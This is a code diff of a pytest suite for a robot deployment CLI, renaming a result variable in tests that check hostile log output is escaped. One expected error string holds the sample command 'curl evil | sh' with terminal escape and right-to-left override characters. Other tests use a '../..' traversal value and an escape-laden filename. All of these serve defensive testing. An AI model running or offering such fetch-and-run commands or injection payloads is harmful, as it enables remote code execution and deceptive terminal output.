@@ -248,8 +248,8 @@ def test_logs_are_passed_through_and_ctrl_c_ends_the_looking(deploy: Deploy, abo
 
 def test_what_a_robot_logs_is_escaped_in_a_pipe_and_on_a_terminal(deploy: Deploy, aboard: Aboard, robot: Sshd) -> None:
     aboard("logs", HOSTILE_LOG)
-    told = deploy("logs")
-    assert told.out == "a \\x1b]0;title\\x07\\x1b[2J\\r \tend\n"
+    result = deploy("logs")
+    assert result.out == "a \\x1b]0;title\\x07\\x1b[2J\\r \tend\n"
     (robot.folder / "bin" / "python3").unlink()
     (robot.folder / "bin" / "python3").write_text(f"#!/bin/sh\ncat >/dev/null; cat {robot.folder}/answer\n")
     (robot.folder / "bin" / "python3").chmod(0o755)
@@ -267,9 +267,9 @@ def test_what_a_robot_logs_is_escaped_in_a_pipe_and_on_a_terminal(deploy: Deploy
 def test_refusal_cannot_forge_a_line(deploy: Deploy, aboard: Aboard, command: str) -> None:
     for action in ("releases", "rollback", "status", "logs", "start", "stop", "recordings"):
         aboard(action, FORGING)
-    told = deploy(command)
-    assert (told.status, told.out) == (3, "")
-    assert told.err == "error: robot: no\\nerror: forged. run: curl evil | sh\\x1b[A. \\u202enow\n"
+    result = deploy(command)
+    assert (result.status, result.out) == (3, "")
+    assert result.err == "error: robot: no\\nerror: forged. run: curl evil | sh\\x1b[A. \\u202enow\n"
 
 
 @pytest.mark.parametrize("answer", ["5", "None", "[]", "{}", "{'recordings': 5}", "{'release': '../..'}"])
@@ -277,10 +277,10 @@ def test_refusal_cannot_forge_a_line(deploy: Deploy, aboard: Aboard, command: st
 def test_damaged_answer_is_named_and_exits_3(deploy: Deploy, aboard: Aboard, command: str, answer: str) -> None:
     for action in ("releases", "rollback", "status", "start", "stop", "recordings"):
         aboard(action, f"def act(layout, **told):\n    return {answer}\n")
-    told = deploy(command)
-    assert told.status == 3
-    assert told.err.startswith("error: robot: its answer to ")
-    assert len(told.err.splitlines()) == 1
+    result = deploy(command)
+    assert result.status == 3
+    assert result.err.startswith("error: robot: its answer to ")
+    assert len(result.err.splitlines()) == 1
 
 
 def test_remove_of_a_damaged_answer_exits_3(deploy: Deploy, aboard: Aboard) -> None:
@@ -356,9 +356,9 @@ def test_fetch_as_json_names_each_file_by_what_became_of_it(deploy: Deploy, robo
     for name in (f"{OLD}.mcap", f"{NEW}.mcap", "evil\x1b.py"):
         (recordings / name).write_text("seen")
     (tmp_path / f"{OLD}.mcap").write_text("mine, and longer")
-    told = deploy("fetch", "--json", "--move", "-o", str(tmp_path))
-    assert told.status == 1
-    assert told.json == {
+    result = deploy("fetch", "--json", "--move", "-o", str(tmp_path))
+    assert result.status == 1
+    assert result.json == {
         "host": "robot",
         "folder": str(tmp_path),
         "brought": [f"{NEW}.mcap"],
@@ -373,8 +373,8 @@ def test_fetch_as_json_names_each_file_by_what_became_of_it(deploy: Deploy, robo
 
 
 def test_fetch_from_a_robot_that_cannot_be_reached_is_told_in_json(cli: Cli) -> None:
-    told = cli("deploy", "fetch", "nobody.invalid", "--json")
-    assert told.status == told.json["exit_status"] == 3
+    result = cli("deploy", "fetch", "nobody.invalid", "--json")
+    assert result.status == result.json["exit_status"] == 3
 
 
 @pytest.mark.parametrize("link", ["recordings", "recordings/robot"])
@@ -388,9 +388,9 @@ def test_fetch_follows_no_link_unless_the_user_names_it(
     (tmp_path / "project" / link).parent.mkdir(parents=True)
     (tmp_path / "project" / link).symlink_to(tmp_path / "elsewhere")
     monkeypatch.chdir(tmp_path / "project")
-    told = deploy("fetch")
-    assert told.status == 2
-    assert f"-o {tmp_path}/elsewhere" in told.err
+    result = deploy("fetch")
+    assert result.status == 2
+    assert f"-o {tmp_path}/elsewhere" in result.err
     assert not list((tmp_path / "elsewhere").rglob("*.mcap"))
     assert deploy("fetch", "-o", link).status == 0
     assert list((tmp_path / "elsewhere").rglob("*.mcap"))
